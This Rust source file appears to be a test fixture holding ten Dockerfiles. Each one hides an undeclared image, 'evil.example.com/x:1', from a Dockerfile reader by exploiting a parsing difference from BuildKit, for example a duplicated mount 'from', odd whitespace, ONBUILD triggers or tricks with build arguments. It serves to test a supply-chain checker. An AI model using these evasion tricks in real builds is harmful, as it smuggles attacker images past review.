//! Dockerfiles that were written to get an image past the reader, each by something that it once
//! read in another way than `BuildKit`.

use std::collections::BTreeMap;

use crate::frontend::Build;

/// The image that the family declares, and the one that nobody declares.
pub const BASE: &str = "registry.example.com/team/base:1";
pub const EVIL: &str = "evil.example.com/x:1";

const FILES: [(&str, &str); 8] = [
    ("plainly", "FROM registry.example.com/team/base:1\nCOPY --from=evil.example.com/x:1 / /\n"),
    (
        "the second `from` of a mount",
        "FROM registry.example.com/team/base:1\n\
         RUN --mount=type=bind,from=,from=evil.example.com/x:1,target=/y cp -r /y/. /\n",
    ),
    (
        "a byte that is white space",
        "FROM registry.example.com/team/base:1\nCOPY --exclude=à--from=evil.example.com/x:1 / /\n",
    ),
    (
        "an argument that only BuildKit sets",
        "ARG X=${TARGETSTAGE:+evil.example.com/x:1}\n\
         ARG BASE=${X:-registry.example.com/team/base:1}\nFROM ${BASE}\n",
    ),
    (
        "a digit after `$`",
        "ARG X=$1y\nARG Y=${X:+evil.example.com/x:1}\n\
         FROM ${Y:-registry.example.com/team/base:1}\n",
    ),
    (
        "two carriage returns after the escape",
        "FROM evil.example.com/x:1\nRUN true # \\\r\r\nFROM registry.example.com/team/base:1\n",
    ),
    (
        "a trigger of a stage",
        "FROM registry.example.com/team/base:1 AS a\nONBUILD COPY --from=evil.example.com/x:1 / /\n\
         FROM a\n",
    ),
    ("a base that nothing declares", "FROM evil.example.com/x:1\n"),
];

/// The builds, by what hides the image.
pub fn builds() -> BTreeMap<String, Build> {
    let mut builds: BTreeMap<String, Build> =
        FILES.iter().map(|(title, text)| ((*title).to_owned(), Build::of(*text))).collect();
    // What the argument `BASE_IMAGE=evil.example.com/x:1` becomes on the builder's command line.
    let args = [("BASE_IMAGE".to_owned(), format!("{EVIL}=z"))].into();
    let text = "ARG BASE_IMAGE\nFROM ${BASE_IMAGE%=*}\n";
    builds.insert("an argument's name".into(), Build { args, ..Build::of(text) });
    let triggers = [(BASE.to_owned(), vec![format!("COPY --from={EVIL} / /")])].into();
    let text = format!("FROM {BASE}\n");
    builds.insert("a trigger of the base".into(), Build { triggers, ..Build::of(text) });
    builds
}
